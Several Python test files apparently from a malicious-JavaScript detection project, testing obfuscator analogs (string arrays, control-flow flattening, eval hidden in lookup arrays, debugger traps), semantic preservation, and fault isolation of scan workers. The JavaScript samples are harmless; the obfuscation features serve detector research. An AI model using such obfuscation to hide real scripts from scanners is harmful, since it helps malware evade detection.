        program, mapping = self.rename("function helper() {} helper();")
        assert "helper" in mapping
        names = [i.name for i in find_all(program, "Identifier")]
        assert "helper" not in names

    def test_catch_param_renamed(self):
        program, _ = self.rename("try { f(); } catch (err) { log(err); }")
        catch = find_all(program, "CatchClause")[0]
        assert catch.param.name != "err"
        log_call = find_all(catch, "CallExpression")[0]
        assert log_call.arguments[0].name == catch.param.name

    def test_repeated_var_renamed_consistently(self):
        # Regression: two `var i` loops share one binding; both declaration
        # sites must rename together or the variable splits in two.
        src = "var a = 0; for (var i = 0; i < 3; i++) { a += i; } for (var i = 0; i < 3; i++) { a += i; } out(a);"
        program, mapping = self.rename(src)
        names = [n.name for n in find_all(program, "Identifier")]
        assert "i" not in names
        new = mapping["i"]
        assert names.count(new) == 8  # 2 declarations + 6 references

    def test_object_keys_untouched(self):
        program, _ = self.rename("var o = { secret: 1 };")
        prop = find_all(program, "Property")[0]
        assert prop.key.name == "secret"


class TestCollectStrings:
    def test_collects_plain_strings(self):
        program = parse("var a = 'one'; f('two');")
        values = [lit.value for lit, _ in collect_string_literals(program)]
        assert values == ["one", "two"]

    def test_skips_property_keys(self):
        program = parse("var o = { 'key': 'value' };")
        values = [lit.value for lit, _ in collect_string_literals(program)]
        assert values == ["value"]

    def test_skips_regex(self):
        program = parse("var r = /abc/; var s = 'real';")
        values = [lit.value for lit, _ in collect_string_literals(program)]
        assert values == ["real"]

    def test_min_length_filter(self):
        program = parse("f('x', 'long enough');")
        values = [lit.value for lit, _ in collect_string_literals(program, min_length=3)]
        assert values == ["long enough"]
