"""Semantic-preservation tests: obfuscated code must behave identically.

The strongest correctness property of the obfuscator suite: for programs
with observable output (console, document.write, cookies, redirects), the
obfuscated variant produces *exactly* the same observations when run under
:mod:`repro.jsinterp`.
"""

import numpy as np
import pytest

from repro.jsinterp import Interpreter
from repro.obfuscation import ALL_OBFUSCATORS, Minifier, WildObfuscator

#: Deterministic programs exercising the transformation surface: string
#: assembly, decoding loops, object/member traffic, control flow, errors.
PROGRAMS = {
    "string-assembly": """
        var parts = ["al", "pha", "-", "omega"];
        var word = "";
        for (var i = 0; i < parts.length; i++) { word = word + parts[i]; }
        console.log(word, word.length);
    """,
    "xor-decode": """
        function decode(blob, key) {
          var out = "";
          for (var i = 0; i < blob.length; i++) {
            out = out + String.fromCharCode(blob.charCodeAt(i) ^ key);
          }
          return out;
        }
        var secret = decode(decode("hello world", 42), 42);
        console.log(secret);
        document.write("<i>" + secret + "</i>");
    """,
    "object-config": """
        var config = { width: 100, height: 40, label: "panel" };
        function area(c) { return c.width * c.height; }
        if (area(config) > 3000) { console.log(config.label, "big", area(config)); }
        else { console.log(config.label, "small"); }
    """,
    "try-catch": """
        var total = 0;
        var values = [5, 10, 15];
        for (var k in values) { total += values[k]; }
        try { undefinedFn(); } catch (e) { console.log("recovered"); }
        console.log("total", total);
    """,
    "closures": """
        function adder(base) { return function(x) { return base + x; }; }
        var plus5 = adder(5);
        var results = [];
        for (var i = 0; i < 4; i++) { results.push(plus5(i * 10)); }
        console.log(results.join(","));
    """,
    "switch-machine": """
        var state = "start";
        var trace = [];
        for (var step = 0; step < 5; step++) {
          switch (state) {
            case "start": trace.push("s"); state = "mid"; break;
            case "mid": trace.push("m"); state = "end"; break;
            default: trace.push("e"); state = "start";
          }
        }
        console.log(trace.join(""));
    """,
    "charcode-table": """
        var table = [104, 105, 33];
        var msg = "";
        var idx = 0;
        while (idx < table.length) {
          msg += String.fromCharCode(table[idx]);
          idx++;
        }
        console.log(msg.toUpperCase());
        document.cookie = "seen=" + msg.length;
    """,
    "eval-stage": """
        var stage = "console" + ".log('staged', 40 + 2);";
        eval(stage);
    """,
}

TRANSFORMS = dict(ALL_OBFUSCATORS)
TRANSFORMS["minify"] = Minifier
TRANSFORMS["wild"] = WildObfuscator


def observable(source):
    return Interpreter(max_steps=400_000).run(source).observable()


@pytest.mark.parametrize("transform_name", list(TRANSFORMS), ids=list(TRANSFORMS))
@pytest.mark.parametrize("program_name", list(PROGRAMS), ids=list(PROGRAMS))
class TestSemanticPreservation:
    def test_behavior_identical(self, transform_name, program_name):
        source = PROGRAMS[program_name]
        baseline = observable(source)
        for seed in (0, 11):
            obfuscated = TRANSFORMS[transform_name](seed=seed).obfuscate(source)
            assert observable(obfuscated) == baseline, f"seed {seed}"


class TestRandomizedPreservation:
    """Property-style sweep: many seeds across the heavyweight transforms."""

    @pytest.mark.parametrize("seed", range(6))
    def test_js_obfuscator_many_seeds(self, seed):
        from repro.obfuscation import JavaScriptObfuscator

        source = PROGRAMS["xor-decode"]
        baseline = observable(source)
        assert observable(JavaScriptObfuscator(seed=seed).obfuscate(source)) == baseline

    @pytest.mark.parametrize("seed", range(6))
    def test_jsobfu_iterations_preserve(self, seed):
        from repro.obfuscation import JSObfu

        source = PROGRAMS["string-assembly"]
        baseline = observable(source)
        assert observable(JSObfu(seed=seed, iterations=3).obfuscate(source)) == baseline

    def test_generated_corpus_samples_preserved(self):
        """Deterministic generated benign samples behave identically after
        each obfuscator (families without timers/network)."""
        from repro.datasets import generate_benign

        for family in ("config", "codec", "hashutil", "template", "i18n"):
            source = generate_benign(np.random.default_rng(3), family=family)
            baseline = observable(source)
            for name, cls in TRANSFORMS.items():
                result = observable(cls(seed=5).obfuscate(source))
                assert result == baseline, f"{name} on {family}"
