"""Unit tests for the Minifier and the WildObfuscator."""


from repro.jsparser import find_all, parse, walk
from repro.obfuscation import Minifier, WildObfuscator

SAMPLE = """
function calculateTotal(items, taxRate) {
  var runningTotal = 0;
  for (var index = 0; index < items.length; index++) {
    runningTotal = runningTotal + items[index].price;
  }
  return runningTotal * (1 + taxRate);
}
var shoppingCart = [{ price: 10 }, { price: 20 }];
console.log(calculateTotal(shoppingCart, 0.2));
"""


class TestMinifier:
    def test_names_become_short(self):
        out = Minifier(seed=0).obfuscate(SAMPLE)
        names = {i.name for i in find_all(parse(out), "Identifier")}
        declared = names - {"console", "log", "length", "price"}
        assert all(len(n) <= 2 for n in declared)

    def test_uglify_sequence_order(self):
        out = Minifier(seed=0).obfuscate("var first = 1; var second = 2; var third = first + second;")
        program = parse(out)
        declared = [d.declarations[0].id.name for d in program.body if d.type == "VariableDeclaration"]
        assert declared == ["a", "b", "c"]

    def test_structure_unchanged(self):
        before = [n.type for n in walk(parse(SAMPLE))]
        after = [n.type for n in walk(parse(Minifier(seed=1).obfuscate(SAMPLE)))]
        assert before == after

    def test_string_values_kept(self):
        out = Minifier(seed=2).obfuscate("var msg = 'visible text'; alert(msg);")
        assert "visible text" in out

    def test_sequence_skips_reserved_single_letters(self):
        # 30 variables: the a..z, aa, ab... sequence must stay collision-free.
        declarations = "; ".join(f"var name{i} = {i}" for i in range(30))
        out = Minifier(seed=3).obfuscate(declarations + ";")
        program = parse(out)
        names = [d.declarations[0].id.name for d in program.body]
        assert len(set(names)) == 30


class TestWildObfuscator:
    def test_renames_and_splits(self):
        out = WildObfuscator(seed=0, split_probability=1.0).obfuscate(
            "var secretValue = 'longish string constant'; use(secretValue);"
        )
        assert "secretValue" not in out
        assert "'longish string constant'" not in out and '"longish string constant"' not in out

    def test_split_strings_concatenate_back(self):
        out = WildObfuscator(seed=1, split_probability=1.0).obfuscate("f('abcdefgh');")
        program = parse(out)
        binary = find_all(program, "BinaryExpression")
        assert binary and binary[0].operator == "+"
        # The parts still concatenate to the original value.
        parts = [lit.value for lit in find_all(program, "Literal") if isinstance(lit.value, str)]
        assert "".join(parts) == "abcdefgh"

    def test_wrap_probability_one_always_wraps(self):
        out = WildObfuscator(seed=2, wrap_probability=1.0).obfuscate("var a = 1;")
        program = parse(out)
        assert len(program.body) == 1
        assert program.body[0].expression.callee.type == "FunctionExpression"

    def test_wrap_probability_zero_never_wraps(self):
        out = WildObfuscator(seed=3, wrap_probability=0.0).obfuscate("var a = 1; var b = 2;")
        program = parse(out)
        assert all(stmt.type == "VariableDeclaration" for stmt in program.body)

    def test_no_tool_signatures(self):
        """Wild output must not contain the four tools' signature artifacts
        (fog arrays, switch dispatchers) — it models ad-hoc obfuscation."""
        out = WildObfuscator(seed=4).obfuscate(SAMPLE)
        program = parse(out)
        assert "$fog$" not in out
        assert not find_all(program, "SwitchStatement")

    def test_short_strings_untouched(self):
        out = WildObfuscator(seed=5, split_probability=1.0).obfuscate("f('ab');")
        assert "'ab'" in out or '"ab"' in out
