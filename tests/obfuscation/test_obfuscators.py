"""Unit tests for the four obfuscator analogs."""

import pytest

from repro.jsparser import find_all, parse
from repro.obfuscation import ALL_OBFUSCATORS, Jfogs, JSObfu, JavaScriptObfuscator, Jshaman

SAMPLE = """
function greet(name) {
  var message = "hello " + name;
  var count = 3;
  console.log(message, count);
  return message;
}
var who = "world";
greet(who);
eval("1+1");
"""

MORE_SAMPLES = [
    "var a = 1; if (a > 0) { log('positive'); } else { log('negative'); }",
    "for (var i = 0; i < 10; i++) { sum = sum + i; }",
    "function outer() { function inner(x) { return x * 2; } return inner(21); }",
    "try { risky('op'); } catch (e) { report(e); } finally { cleanup(); }",
    "var obj = { name: 'widget', size: 10 }; render(obj.name, obj.size);",
]


@pytest.mark.parametrize("cls", list(ALL_OBFUSCATORS.values()), ids=list(ALL_OBFUSCATORS))
class TestAllObfuscators:
    def test_output_is_valid_javascript(self, cls):
        out = cls(seed=0).obfuscate(SAMPLE)
        parse(out)

    @pytest.mark.parametrize("src", MORE_SAMPLES, ids=range(len(MORE_SAMPLES)))
    def test_varied_programs_stay_valid(self, cls, src):
        parse(cls(seed=1).obfuscate(src))

    def test_output_differs_from_input(self, cls):
        out = cls(seed=2).obfuscate(SAMPLE)
        assert out != SAMPLE

    def test_deterministic_given_seed(self, cls):
        assert cls(seed=3).obfuscate(SAMPLE) == cls(seed=3).obfuscate(SAMPLE)

    def test_seeds_change_output(self, cls):
        a = cls(seed=4).obfuscate(SAMPLE)
        b = cls(seed=5).obfuscate(SAMPLE)
        assert a != b

    def test_declared_names_removed(self, cls):
        out = cls(seed=6).obfuscate(SAMPLE)
        names = {i.name for i in find_all(parse(out), "Identifier")}
        assert "message" not in names
        assert "who" not in names

    def test_host_globals_survive(self, cls):
        out = cls(seed=7).obfuscate(SAMPLE)
        names = {i.name for i in find_all(parse(out), "Identifier")}
        assert "console" in names


class TestJavaScriptObfuscator:
    def test_string_array_created(self):
        out = JavaScriptObfuscator(seed=0).obfuscate(SAMPLE)
        program = parse(out)
        arrays = find_all(program, "ArrayExpression")
        assert any(
            all(getattr(e, "value", None) is not None for e in arr.elements) and len(arr.elements) >= 2
            for arr in arrays
        )
        assert '"hello "' not in out or "[" in out  # literal moved into array

    def test_strings_become_decoder_calls(self):
        out = JavaScriptObfuscator(seed=1).obfuscate("f('alpha'); g('beta');")
        program = parse(out)
        # Lookups route through a decoder: find the decoder function whose
        # body returns a computed member access, and calls to it.
        decoders = [
            fn
            for fn in find_all(program, "FunctionDeclaration")
            if fn.body.body
            and any(
                s.type == "ReturnStatement"
                and s.argument is not None
                and s.argument.type == "MemberExpression"
                and s.argument.computed
                for s in fn.body.body
            )
        ]
        assert decoders
        decoder_names = {fn.id.name for fn in decoders}
        calls = [
            c
            for c in find_all(program, "CallExpression")
            if c.callee.type == "Identifier" and c.callee.name in decoder_names
        ]
        assert len(calls) >= 2

    def test_control_flow_flattening_produces_dispatcher(self):
        out = JavaScriptObfuscator(seed=2, dead_code_injection=False).obfuscate(SAMPLE)
        program = parse(out)
        assert find_all(program, "SwitchStatement")
        assert find_all(program, "WhileStatement")

    def test_dispatch_preserves_statement_order(self):
        """Decode the dispatch string and check it maps cases back to the
        original statement order."""
        out = JavaScriptObfuscator(seed=3, dead_code_injection=False, string_array=False).obfuscate(SAMPLE)
        program = parse(out)
        switch = find_all(program, "SwitchStatement")[0]
        # Find the "a|b|c"-style dispatch literal.
        fn = find_all(program, "FunctionDeclaration")[0]
        dispatch_literal = next(
            lit for lit in find_all(fn, "Literal") if isinstance(lit.value, str) and "|" in lit.value
        )
        order = [int(tok) for tok in dispatch_literal.value.split("|")]
        case_bodies = {}
        for case in switch.cases:
            case_bodies[int(case.test.value)] = case.consequent
        # Execution order: declarations of message/count before console.log,
        # return last.
        kinds = [case_bodies[label][0].type for label in order]
        assert kinds[-1] == "ReturnStatement"
        assert kinds[:2] == ["VariableDeclaration", "VariableDeclaration"]

    def test_dead_code_guarded_by_false_predicate(self):
        out = JavaScriptObfuscator(seed=4, string_array=False, control_flow_flattening=False).obfuscate(
            "a(); b(); c(); d(); e();"
        )
        program = parse(out)
        for if_stmt in find_all(program, "IfStatement"):
            test = if_stmt.test
            assert test.type == "BinaryExpression" and test.operator == "==="
            assert test.left.value != test.right.value  # provably false

    def test_debug_protection_inserts_debugger_loop(self):
        out = JavaScriptObfuscator(
            seed=6, string_array=False, control_flow_flattening=False,
            dead_code_injection=False, debug_protection=True,
        ).obfuscate("var a = 1;")
        program = parse(out)
        assert find_all(program, "DebuggerStatement")
        assert "setTimeout" in out

    def test_features_toggle_off(self):
        out = JavaScriptObfuscator(
            seed=5, string_array=False, control_flow_flattening=False, dead_code_injection=False
        ).obfuscate(SAMPLE)
        program = parse(out)
        assert not find_all(program, "SwitchStatement")


class TestJfogs:
    def test_wraps_in_iife(self):
        out = Jfogs(seed=0).obfuscate(SAMPLE)
        program = parse(out)
        assert len(program.body) == 1
        expr = program.body[0].expression
        assert expr.type == "CallExpression"
        assert expr.callee.type == "FunctionExpression"

    def test_fog_array_declared(self):
        out = Jfogs(seed=1).obfuscate(SAMPLE)
        assert "$fog$" in out

    def test_global_call_identifier_removed(self):
        out = Jfogs(seed=2).obfuscate("eval('payload');")
        program = parse(out)
        calls = find_all(program, "CallExpression")
        # eval must no longer be a direct callee anywhere.
        direct = [c for c in calls if c.callee.type == "Identifier" and c.callee.name == "eval"]
        assert not direct
        assert "eval" in out  # it lives in the fog array instead

    def test_literal_arguments_fogged(self):
        out = Jfogs(seed=3).obfuscate("go('target', 42);")
        program = parse(out)
        go_call = next(
            c
            for c in find_all(program, "CallExpression")
            if c.callee.type == "Identifier" and c.callee.name == "go"
        )
        # Both literal arguments become fog-array lookups.
        assert go_call.arguments
        assert all(a.type == "MemberExpression" for a in go_call.arguments)

    def test_unknown_global_callee_not_hoisted(self):
        """Hoisting an unknown global into the fog array would evaluate it
        eagerly and break try/catch semantics; it must stay in place."""
        out = Jfogs(seed=6).obfuscate("try { mystery(); } catch (e) { log(e); }")
        program = parse(out)
        callees = {
            c.callee.name for c in find_all(program, "CallExpression") if c.callee.type == "Identifier"
        }
        assert "mystery" in callees

    def test_uniform_shell_even_for_trivial_input(self):
        out = Jfogs(seed=4).obfuscate("var a = b;")
        assert "$fog$" in out
        parse(out)

    def test_decoy_slots_present(self):
        out = Jfogs(seed=5).obfuscate("noop();")
        program = parse(out)
        arrays = find_all(program, "ArrayExpression")
        assert arrays and len(arrays[0].elements) >= 1


class TestJSObfu:
    def test_plain_strings_removed(self):
        out = JSObfu(seed=0, iterations=1).obfuscate("var s = 'signature-string-constant';")
        assert "'signature-string-constant'" not in out
        assert '"signature-string-constant"' not in out

    def test_iterations_compound(self):
        one = JSObfu(seed=1, iterations=1).obfuscate(SAMPLE)
        three = JSObfu(seed=1, iterations=3).obfuscate(SAMPLE)
        assert len(three) > len(one)

    def test_invalid_iterations(self):
        with pytest.raises(ValueError):
            JSObfu(iterations=0)

    def test_fromcharcode_or_unescape_forms_appear(self):
        out = JSObfu(seed=2, iterations=2).obfuscate(
            "var a = 'alpha'; var b = 'bravo'; var c = 'charlie'; var d = 'delta';"
        )
        assert ("fromCharCode" in out) or ("unescape" in out) or ("+" in out)

    def test_number_randomization(self):
        out = JSObfu(seed=3, iterations=1).obfuscate("var n1 = 7; var n2 = 7; var n3 = 7; var n4 = 7;")
        program = parse(out)
        assert find_all(program, "BinaryExpression")


class TestJshaman:
    def test_only_renaming_structure_preserved(self):
        src = "function f(a) { return a + 1; } f(2);"
        out = Jshaman(seed=0).obfuscate(src)
        before = [n.type for n in _walk_types(src)]
        after = [n.type for n in _walk_types(out)]
        assert before == after  # structure identical, only names differ

    def test_string_values_preserved(self):
        out = Jshaman(seed=1).obfuscate("var s = 'keep-me'; use(s);")
        assert "keep-me" in out

    def test_invalid_fraction(self):
        with pytest.raises(ValueError):
            Jshaman(encode_fraction=1.5)


def _walk_types(source):
    from repro.jsparser import parse as _parse
    from repro.jsparser import walk

    return list(walk(_parse(source)))
