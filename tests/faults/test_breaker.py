"""Circuit-breaker lifecycle under a deterministic fake clock."""

from repro.faults import CLOSED, HALF_OPEN, OPEN, CircuitBreaker
from repro.obs import MetricsRegistry


class FakeClock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


def make(threshold=3, reset=10.0, metrics=None):
    clock = FakeClock()
    breaker = CircuitBreaker(
        failure_threshold=threshold, reset_timeout_s=reset, clock=clock, metrics=metrics
    )
    return breaker, clock


class TestLifecycle:
    def test_starts_closed_and_allows(self):
        breaker, _ = make()
        assert breaker.state == CLOSED
        assert breaker.allow()

    def test_opens_after_threshold_consecutive_failures(self):
        breaker, _ = make(threshold=3)
        breaker.record_failure()
        breaker.record_failure()
        assert breaker.state == CLOSED
        breaker.record_failure()
        assert breaker.state == OPEN
        assert not breaker.allow()

    def test_success_resets_the_count(self):
        breaker, _ = make(threshold=2)
        breaker.record_failure()
        breaker.record_success()
        breaker.record_failure()
        assert breaker.state == CLOSED

    def test_batch_deaths_count_together(self):
        breaker, _ = make(threshold=3)
        breaker.record_failure(deaths=3)
        assert breaker.state == OPEN

    def test_retry_after_counts_down(self):
        breaker, clock = make(threshold=1, reset=10.0)
        breaker.record_failure()
        assert breaker.retry_after_s() == 10.0
        clock.advance(4.0)
        assert breaker.retry_after_s() == 6.0

    def test_half_open_admits_exactly_one_probe(self):
        breaker, clock = make(threshold=1, reset=10.0)
        breaker.record_failure()
        assert not breaker.allow()
        clock.advance(10.0)
        assert breaker.state == HALF_OPEN
        assert breaker.allow()  # the probe slot
        assert not breaker.allow()  # everyone else keeps waiting

    def test_probe_success_closes(self):
        breaker, clock = make(threshold=1, reset=10.0)
        breaker.record_failure()
        clock.advance(10.0)
        assert breaker.allow()
        breaker.record_success()
        assert breaker.state == CLOSED
        assert breaker.consecutive_failures == 0

    def test_probe_failure_reopens_and_restarts_clock(self):
        breaker, clock = make(threshold=5, reset=10.0)
        for _ in range(5):
            breaker.record_failure()
        clock.advance(10.0)
        assert breaker.allow()
        breaker.record_failure()  # the probe died too
        assert breaker.state == OPEN
        assert breaker.retry_after_s() == 10.0

    def test_snapshot_shape(self):
        breaker, clock = make(threshold=1, reset=10.0)
        snap = breaker.snapshot()
        assert snap == {"state": CLOSED, "consecutive_failures": 0, "failure_threshold": 1}
        breaker.record_failure()
        clock.advance(3.0)
        snap = breaker.snapshot()
        assert snap["state"] == OPEN
        assert snap["retry_after_s"] == 7.0


class TestMetrics:
    def test_state_gauge_and_transition_counters(self):
        metrics = MetricsRegistry()
        breaker, clock = make(threshold=1, reset=10.0, metrics=metrics)
        breaker.record_failure()
        clock.advance(10.0)
        assert breaker.allow()
        breaker.record_success()
        text = metrics.render()
        assert "repro_breaker_state 0" in text  # ends closed
        assert 'repro_breaker_transitions_total{to="open"} 1' in text
        assert 'repro_breaker_transitions_total{to="half_open"} 1' in text
        assert 'repro_breaker_transitions_total{to="closed"} 1' in text
