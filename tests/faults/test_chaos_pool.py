"""Chaos tests: real workers, real kills, real deadlines.

The acceptance scenario of the isolation layer: a batch containing a
hanging script, an allocation bomb, and two crashers completes; every
poison script is quarantined under its correct cause; every other verdict
is byte-identical to a fault-free scan; and re-scanning skips the poison
entirely via the journal.
"""

import numpy as np
import pytest

from repro.faults import (
    CAUSE_CRASHED,
    CAUSE_OOM,
    CAUSE_TIMEOUT,
    IsolatedPool,
    QuarantineJournal,
    ScanLimits,
    Task,
)
from repro.obs import MetricsRegistry
from repro.pipeline import BatchScanner

HANG = "/* @repro-fault:hang */ var a = 1;"
ALLOCBOMB = "/* @repro-fault:allocbomb */ var b = 2;"
EXIT137 = "/* @repro-fault:exit137 */ var c = 3;"
RAISE = "/* @repro-fault:raise */ var d = 4;"

LIMITS = ScanLimits(timeout_s=3.0, max_rss_mb=256)


@pytest.fixture(scope="module")
def clean_report(detector, split):
    return BatchScanner(detector, n_workers=1).scan(split.test.sources[:4])


class TestIsolatedPoolDirect:
    """Pool-level behavior, analyze-only tasks (no model needed).

    Markers here carry the ``@analysis`` stage scope because analyze-kind
    tasks only fire analysis-stage faults.
    """

    def test_deadline_kill_is_classified_timeout(self, inject):
        source = "/* @repro-fault:hang@analysis */ var a = 1;"
        with IsolatedPool(None, limits=ScanLimits(timeout_s=1.0), n_workers=1) as pool:
            [outcome] = pool.run([Task(kind="analyze", index=0, source=source)])
        assert not outcome.ok
        assert outcome.cause == CAUSE_TIMEOUT
        assert "deadline" in outcome.detail

    def test_sigkill_style_death_is_classified_crashed(self, inject):
        source = "/* @repro-fault:exit137@analysis */ var c = 3;"
        with IsolatedPool(None, limits=ScanLimits(timeout_s=30.0), n_workers=1) as pool:
            [outcome] = pool.run([Task(kind="analyze", index=0, source=source)])
        assert not outcome.ok
        assert outcome.cause == CAUSE_CRASHED
        assert "137" in outcome.detail

    def test_pool_survives_mixed_batch_and_keeps_order(self, inject):
        clean = "var ok = eval('1');"
        tasks = [
            Task(kind="analyze", index=0, source=clean),
            Task(kind="analyze", index=1, source="/* @repro-fault:exit137@analysis */ var c;"),
            Task(kind="analyze", index=2, source=clean),
            Task(kind="analyze", index=3, source="/* @repro-fault:raise@analysis */ var d;"),
        ]
        with IsolatedPool(None, limits=ScanLimits(timeout_s=30.0), n_workers=2) as pool:
            outcomes = pool.run(tasks)
            assert [o.index for o in outcomes] == [0, 1, 2, 3]
            assert outcomes[0].ok and outcomes[2].ok
            assert not outcomes[1].ok and not outcomes[3].ok
            assert pool.workers_lost >= 1
            # The pool is still serviceable after burying workers.
            [again] = pool.run([Task(kind="analyze", index=9, source=clean)])
            assert again.ok

    def test_markers_are_inert_without_the_env_flag(self, monkeypatch):
        monkeypatch.delenv("REPRO_FAULT_INJECT", raising=False)
        source = "/* @repro-fault:raise@analysis */ var d = 4;"
        with IsolatedPool(None, limits=ScanLimits(timeout_s=5.0), n_workers=1) as pool:
            [outcome] = pool.run([Task(kind="analyze", index=0, source=source)])
        assert outcome.ok


class TestScannerChaos:
    """The ISSUE acceptance scenario, end to end through BatchScanner."""

    def test_hostile_batch_completes_with_correct_causes(
        self, detector, split, clean_report, inject
    ):
        sources = list(split.test.sources[:4]) + [HANG, ALLOCBOMB, EXIT137, RAISE]
        journal = QuarantineJournal()
        metrics = MetricsRegistry()
        scanner = BatchScanner(
            detector, n_workers=2, limits=LIMITS, quarantine=journal, metrics=metrics
        )
        report = scanner.scan(sources)

        statuses = [r.status for r in report.results]
        assert statuses[:4] == ["ok"] * 4
        assert statuses[4:] == ["timeout", "oom", "crashed", "crashed"]
        assert report.fault_count == 4
        assert len(journal) == 4
        assert {e.cause for e in journal.entries()} == {CAUSE_TIMEOUT, CAUSE_OOM, CAUSE_CRASHED}

        # Every non-faulted verdict is byte-identical to a fault-free scan.
        for clean, hostile in zip(clean_report.results, report.results[:4]):
            assert clean.label == hostile.label
            assert clean.probability == hostile.probability
            assert clean.path_count == hostile.path_count
        assert np.array_equal(
            clean_report.probability_matrix, report.probability_matrix[:4]
        )

        # Faulted scripts got a degraded triage-only verdict, not silence.
        for result in report.results[4:]:
            assert result.degraded
            assert result.analysis is not None
            assert result.fault["cause"] == result.status
            assert 0.0 <= result.probability <= 1.0

        text = metrics.render()
        assert 'repro_scan_failures_total{cause="timeout"} 1' in text
        assert 'repro_scan_failures_total{cause="oom"} 1' in text
        assert 'repro_scan_failures_total{cause="crashed"} 2' in text

    def test_rescan_skips_known_poison(self, detector, inject):
        journal = QuarantineJournal()
        scanner = BatchScanner(detector, n_workers=1, limits=LIMITS, quarantine=journal)
        first = scanner.scan([EXIT137])
        assert first.results[0].status == "crashed"
        assert "known" not in (first.results[0].fault or {})

        second = scanner.scan([EXIT137])
        assert second.results[0].status == "crashed"
        assert second.results[0].fault["known"] is True
        assert len(journal) == 1

    def test_oom_script_reports_rusage(self, detector, inject):
        journal = QuarantineJournal()
        scanner = BatchScanner(detector, n_workers=1, limits=LIMITS, quarantine=journal)
        report = scanner.scan([ALLOCBOMB])
        assert report.results[0].status == "oom"
        entry = journal.entries()[0]
        assert entry.rusage is not None and entry.rusage["max_rss_kb"] > 0

    def test_limits_without_faults_match_plain_scan(self, detector, split, clean_report):
        # Isolation on, chaos seam dormant: verdicts are still byte-identical.
        scanner = BatchScanner(detector, n_workers=2, limits=LIMITS)
        report = scanner.scan(list(split.test.sources[:4]))
        assert [r.status for r in report.results] == ["ok"] * 4
        assert report.fault_count == 0
        for clean, isolated in zip(clean_report.results, report.results):
            assert clean.label == isolated.label
            assert clean.probability == isolated.probability

    def test_result_json_round_trip_keeps_fault_fields(self, detector, inject):
        from repro.pipeline import ScanReport

        scanner = BatchScanner(detector, n_workers=1, limits=LIMITS)
        report = scanner.scan([HANG])
        reloaded = ScanReport.from_json(report.to_json())
        result = reloaded.results[0]
        assert result.status == "timeout"
        assert result.degraded == report.results[0].degraded
        assert result.fault["cause"] == "timeout"
        assert reloaded.fault_count == 1
