"""Crash-loop protection: restart backoff, budget exhaustion, replica serving.

Two layers:

* **fake clock** — the supervisor's whole backoff schedule (immediate
  first replacement, exponential delays, budget exhaustion into
  ``crash_loop``, the long retry timer) asserted on
  ``ShardSupervisor.respawn_log`` without spawning a single process or
  sleeping a single real second, and
* **real processes** — a live two-shard cluster where one shard's
  replacements die at boot (``@repro-fault:exit137@boot`` injected via
  ``shard_env``): the shard must end up parked in ``crash_loop`` fleet
  state while every scan keeps succeeding off the surviving replica.
"""

import asyncio
import os
import signal
import time

import pytest

from repro.client import ScanClient
from repro.core import save_detector
from repro.serve import BackgroundCluster, ClusterConfig, RouterConfig
from repro.serve.supervisor import (
    SHARD_BACKOFF,
    SHARD_CRASH_LOOP,
    ShardSpec,
    ShardSupervisor,
)


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now

    def advance(self, dt):
        self.now += dt


class DeadProcess:
    """A subprocess stand-in that is already dead (exit 137)."""

    pid = 4242
    returncode = 137

    def poll(self):
        return 137

    def wait(self, timeout=None):
        return 137

    def terminate(self):
        pass

    def kill(self):
        pass


def make_supervisor(clock, **overrides):
    params = dict(
        model_dir="unused",
        n_shards=1,
        restart_backoff_s=1.0,
        restart_backoff_max_s=8.0,
        restart_budget=3,
        healthy_reset_s=30.0,
        crash_loop_retry_s=300.0,
        clock=clock,
    )
    params.update(overrides)
    supervisor = ShardSupervisor(**params)
    # Every spawn "succeeds" but the process is dead on arrival — the
    # shape of a daemon that exits during boot.
    supervisor._spawn = lambda shard_id: ShardSpec(
        shard_id=shard_id, host="127.0.0.1", port=1, process=DeadProcess()
    )
    return supervisor


def run_schedule(supervisor, clock, ticks, dt=0.25):
    """Drive the health-check path directly on a fake clock."""

    async def main():
        supervisor.shards["shard-0"] = supervisor._spawn("shard-0")
        for _ in range(ticks):
            spec = supervisor.shards["shard-0"]
            await supervisor._check(spec)
            clock.advance(dt)

    asyncio.run(main())


def test_backoff_schedule_and_budget_exhaustion():
    clock = FakeClock()
    supervisor = make_supervisor(clock)
    run_schedule(supervisor, clock, ticks=80)

    spec = supervisor.shards["shard-0"]
    assert spec.state == SHARD_CRASH_LOOP
    assert spec.death_streak == supervisor.restart_budget + 1

    times = [t for _shard, t in supervisor.respawn_log]
    # Budget of 3 restarts: immediate, then backoff 1s, then 2s, then parked.
    assert len(times) == 3
    assert times[0] == 0.0  # first death is replaced immediately
    # Exponential gaps (quantized up by the 0.25s tick, never early):
    gap1, gap2 = times[1] - times[0], times[2] - times[1]
    assert 1.0 <= gap1 < 2.0
    assert 2.0 <= gap2 < 3.0


def test_no_busy_spin_between_respawns():
    # Between scheduled respawns the supervisor must do *nothing*: every
    # respawn_log entry lands exactly at (or on the first tick after) its
    # computed next_restart_at — never before.
    clock = FakeClock()
    supervisor = make_supervisor(clock, restart_budget=4)
    run_schedule(supervisor, clock, ticks=120)
    times = [t for _shard, t in supervisor.respawn_log]
    assert len(times) == 4
    gaps = [b - a for a, b in zip(times, times[1:])]
    # Monotone non-decreasing gaps, each at least the computed backoff.
    for expected, gap in zip([1.0, 2.0, 4.0], gaps):
        assert gap >= expected, f"respawned early: gap {gap} < backoff {expected}"
    assert gaps == sorted(gaps)


def test_crash_loop_parks_until_retry_timer():
    clock = FakeClock()
    supervisor = make_supervisor(clock, restart_budget=1, crash_loop_retry_s=100.0)
    run_schedule(supervisor, clock, ticks=40)
    spec = supervisor.shards["shard-0"]
    assert spec.state == SHARD_CRASH_LOOP
    parked_respawns = len(supervisor.respawn_log)
    # 40 ticks * 0.25s = 10s elapsed: far inside the 100s park window.
    run_schedule_more(supervisor, clock, ticks=40)
    assert len(supervisor.respawn_log) == parked_respawns  # parked means parked
    clock.advance(100.0)
    run_schedule_more(supervisor, clock, ticks=2)
    assert len(supervisor.respawn_log) == parked_respawns + 1  # one probe after the timer


def run_schedule_more(supervisor, clock, ticks, dt=0.25):
    async def main():
        for _ in range(ticks):
            await supervisor._check(supervisor.shards["shard-0"])
            clock.advance(dt)

    asyncio.run(main())


def test_snapshot_surfaces_crash_loop_state():
    clock = FakeClock()
    supervisor = make_supervisor(clock, restart_budget=1)
    run_schedule(supervisor, clock, ticks=40)
    entry = supervisor.snapshot()[0]
    assert entry["state"] == SHARD_CRASH_LOOP
    assert entry["healthy"] is False
    assert entry["death_streak"] == 2
